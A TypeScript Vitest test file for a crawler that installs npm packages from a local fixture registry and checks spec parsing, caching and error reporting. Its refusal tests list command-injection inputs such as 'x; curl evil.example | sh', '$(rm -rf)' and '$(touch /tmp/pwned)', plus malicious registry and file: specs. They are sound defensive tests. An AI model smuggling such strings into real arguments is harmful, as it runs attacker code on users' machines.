import { chmodSync, existsSync, readdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { crawlTarget, installNpmPackage, parseNpmSpec, resolveVersion, type NpmTarget } from '../../crawler/index.ts';
import { serverPackage, startNpmRegistry, type FixturePackage, type LoopbackNpmRegistry } from '../fixtures/servers/npm-registry.ts';
import { ROOT, readableTempDir } from './helpers.ts';

// Packages come from an npm registry on 127.0.0.1 (packed fixtures), so these tests never reach a public registry.
const FIXTURE = 'toolrisk-fixture-token-server';
const fixtureDir = path.join(ROOT, 'test', 'fixtures', 'servers', 'npm-token-server');
const tokenServer: FixturePackage = {
  manifest: JSON.parse(readFileSync(path.join(fixtureDir, 'package.json'), 'utf8')),
  files: { 'index.js': readFileSync(path.join(fixtureDir, 'index.js'), 'utf8') },
  publishedAt: '2025-10-01T12:00:00.000Z',
};
const packages: FixturePackage[] = [
  {
    ...tokenServer,
    manifest: {
      ...tokenServer.manifest,
      repository: { type: 'git', url: 'git+https://github.com/example/token-server.git' },
      homepage: 'https://example.com/token',
      license: 'MIT',
    },
  },
  serverPackage('toolrisk-fixture-needs-dep', '1.0.0', '', { dependencies: { 'toolrisk-fixture-missing-dependency': '^1.0.0' } }),
  serverPackage('toolrisk-fixture-slow', '1.0.0'),
  serverPackage('toolrisk-fixture-new-node', '1.0.0', "require('node:sqlite-toolrisk-future');", { engines: { node: '>=99' } }),
  // A version whose tarball is not a package: npm "installs" nothing usable.
  { manifest: { name: 'toolrisk-fixture-no-bin', version: '1.0.0' }, files: { 'README.md': 'no bin' } },
];

let registry: LoopbackNpmRegistry;
const cacheDir = readableTempDir('toolrisk-npm-cache-');
// npm's own download cache, fresh: a tarball cached by an earlier run (same integrity) would never be fetched.
const npmDownloads = readableTempDir('toolrisk-npm-downloads-');
const previousNpmCache = process.env.npm_config_cache;
beforeAll(async () => {
  process.env.npm_config_cache = npmDownloads;
  registry = await startNpmRegistry(packages);
}, 60_000);
afterAll(async () => {
  await registry?.close();
  if (previousNpmCache === undefined) delete process.env.npm_config_cache;
  else process.env.npm_config_cache = previousNpmCache;
  rmSync(cacheDir, { recursive: true, force: true });
  rmSync(npmDownloads, { recursive: true, force: true });
});
const npm = () => ({ cacheDir, registryUrl: registry.url });

const target = (fields: Partial<NpmTarget>): NpmTarget => ({
  kind: 'npm',
  serverId: 'token-server',
  package: FIXTURE,
  version: '1.0.0',
  args: [],
  env: {},
  placeholders: [],
  ...fields,
});

describe('npm packages', () => {
  it('parses package specs and refuses anything but a name and a version or range', () => {
    expect(parseNpmSpec('@modelcontextprotocol/server-memory@2025.9.25')).toEqual({ name: '@modelcontextprotocol/server-memory', version: '2025.9.25' });
    expect(parseNpmSpec('left-pad')).toEqual({ name: 'left-pad', version: undefined });
    expect(parseNpmSpec('@scope/pkg')).toEqual({ name: '@scope/pkg', version: undefined });
    expect(parseNpmSpec('pkg@^1.2 || ~2')).toEqual({ name: 'pkg', version: '^1.2 || ~2' });
    expect(() => parseNpmSpec('not a package')).toThrow(/not an npm package name/);
    expect(() => parseNpmSpec('pkg@$(rm -rf)')).toThrow(/not an npm version/);
    expect(() => parseNpmSpec('pkg@file:../evil')).toThrow(/not an npm version/);
    expect(() => parseNpmSpec('pkg@https://evil.example/x.tgz')).toThrow(/not an npm version/);
    expect(() => parseNpmSpec('--registry=http://evil.example')).toThrow(/not an npm package name/);
  });

  it('never hands npm an option, a file:, URL or git spec, or shell syntax: refused before npm runs', async () => {
    // A stand-in for npm that records that it was called at all.
    const calls = path.join(cacheDir, 'npm-calls');
    const bin = path.join(cacheDir, 'recording-npm.sh');
    writeFileSync(bin, `#!/bin/sh\necho "$@" >> ${calls}\nexit 1\n`);
    chmodSync(bin, 0o755);
    const hostile: Array<[string, string | undefined]> = [
      ['--registry=http://127.0.0.1:9/', undefined],
      ['left-pad', 'file:/etc'],
      ['left-pad', 'http://127.0.0.1:9/evil.tgz'],
      ['left-pad', 'git+ssh://git@example.com/x.git'],
      ['left-pad', 'npm:evil@1.0.0'],
      ['x; curl evil.example | sh', '1.0.0'],
      ['$(touch /tmp/pwned)', undefined],
    ];
    for (const [name, version] of hostile) {
      await expect(installNpmPackage(name, version, { cacheDir, npmCommand: bin })).rejects.toMatchObject({ outcome: 'refused_by_policy' });
    }
    expect(existsSync(calls)).toBe(false);
  });

  it('installs from the registry into its cache folder once, without scripts, resolves the bin and records the metadata', async () => {
    const installed = await installNpmPackage(FIXTURE, '1.0.0', npm());
    expect(installed.dir.startsWith(cacheDir)).toBe(true);
    expect(installed.version).toBe('1.0.0');
    expect(installed.command).toBe(process.execPath);
    expect(installed.args[0]).toBe(path.join(installed.packageDir, 'index.js'));
    expect(existsSync(path.join(installed.dir, '.complete'))).toBe(true);
    expect(installed.info).toEqual({
      registryType: 'npm',
      identifier: FIXTURE,
      version: '1.0.0',
      description: expect.stringMatching(/^Test fixture/),
      repository: 'https://github.com/example/token-server',
      homepage: 'https://example.com/token',
      license: 'MIT',
      publishedAt: '2025-10-01T12:00:00.000Z',
    });
    // Reused: a broken npm would fail if it were asked again.
    const again = await installNpmPackage(FIXTURE, '1.0.0', { cacheDir, npmCommand: 'false' });
    expect(again.dir).toBe(installed.dir);
    expect(again.info).toEqual(installed.info);
  });

  it('resolves a range or no version to the exact version the registry has', async () => {
    expect(await resolveVersion(FIXTURE, '^1', npm())).toBe('1.0.0');
    expect(await resolveVersion(FIXTURE, 'latest', npm())).toBe('1.0.0');
  });

  it('says what went wrong: package_not_found, version_not_found, install_failed, install_timeout', async () => {
    await expect(installNpmPackage('toolrisk-fixture-nobody-published', undefined, npm())).rejects.toMatchObject({
      outcome: 'package_not_found',
      message: expect.stringMatching(/npm has no package toolrisk-fixture-nobody-published/),
    });
    await expect(installNpmPackage(FIXTURE, '9.9.9', npm())).rejects.toMatchObject({
      outcome: 'version_not_found',
      message: expect.stringMatching(/no version of .* matching "9\.9\.9"/),
    });
    await expect(installNpmPackage(FIXTURE, '^9', npm())).rejects.toMatchObject({ outcome: 'version_not_found' });
    await expect(installNpmPackage('toolrisk-fixture-needs-dep', '1.0.0', npm())).rejects.toMatchObject({
      outcome: 'install_failed',
      message: expect.stringMatching(/toolrisk-fixture-missing-dependency/),
    });
    registry.hang('toolrisk-fixture-slow');
    await expect(installNpmPackage('toolrisk-fixture-slow', '1.0.0', { ...npm(), installTimeoutMs: 3_000 })).rejects.toMatchObject({
      outcome: 'install_timeout',
      message: expect.stringMatching(/did not finish within 3 s \(limit installTimeoutMs\)/),
    });
    // Nothing failed was cached as installed.
    const cached = readdirSync(cacheDir).filter((entry) => entry.includes('needs-dep') || entry.includes('slow') || entry.startsWith('.staging-'));
    expect(cached).toEqual([]);
  }, 60_000);

  it('gives declared variables fake placeholders and never the crawler’s own environment; records the package metadata', async () => {
    process.env.TOOLRISK_TEST_CRAWLER_SECRET = 'do-not-leak';
    try {
      const result = await crawlTarget(
        target({ env: { FIXTURE_TOKEN: 'TOOLRISK_PLACEHOLDER_FIXTURE_TOKEN' }, placeholders: ['FIXTURE_TOKEN'], args: ['--flag', 'value'] }),
        { npm: npm() },
      );
      expect(result.error).toBeUndefined();
      expect(result.outcome).toBe('ok');
      const description = result.tools![0].description!;
      expect(description).toContain('token=TOOLRISK_PLACEHOLDER_FIXTURE_TOKEN');
      expect(description).toContain('args=--flag value');
      expect(description).not.toContain('TOOLRISK_TEST_CRAWLER_SECRET');
      expect(result.details).toMatchObject({ npmVersion: '1.0.0', placeholders: ['FIXTURE_TOKEN'] });
      expect(result.packageInfo).toMatchObject({ identifier: FIXTURE, version: '1.0.0', license: 'MIT' });
    } finally {
      delete process.env.TOOLRISK_TEST_CRAWLER_SECRET;
    }
  });

  it('reports needs_config with the names when the server still cannot start', async () => {
    const result = await crawlTarget(
      target({ env: { FIXTURE_TOKEN: 'TOOLRISK_PLACEHOLDER_FIXTURE_TOKEN', FIXTURE_STRICT: '1' }, placeholders: ['FIXTURE_TOKEN'] }),
      { npm: npm() },
    );
    expect(result.outcome).toBe('needs_config');
    expect(result.error).toMatch(/placeholder values for FIXTURE_TOKEN/);
    expect(result.stderr).toContain('FIXTURE_TOKEN is missing or invalid');
  });

  it('a package without a bin is unsupported_runtime, and its install is still reused', async () => {
    const result = await crawlTarget(target({ package: 'toolrisk-fixture-no-bin' }), { npm: npm() });
    expect(result).toMatchObject({ outcome: 'unsupported_runtime', error: expect.stringMatching(/no bin/) });
  });

  it('a package that needs a newer Node says so, naming its engines requirement and --node', async () => {
    const result = await crawlTarget(target({ package: 'toolrisk-fixture-new-node' }), { npm: npm() });
    expect(result.outcome).toBe('needs_newer_runtime');
    expect(result.error).toMatch(/needs Node >=99 \(engines\.node\); it ran on Node v\d+.*--node PATH/);
    expect(result.details).toMatchObject({ engines: '>=99', failedAs: 'crashed' });
  });
});
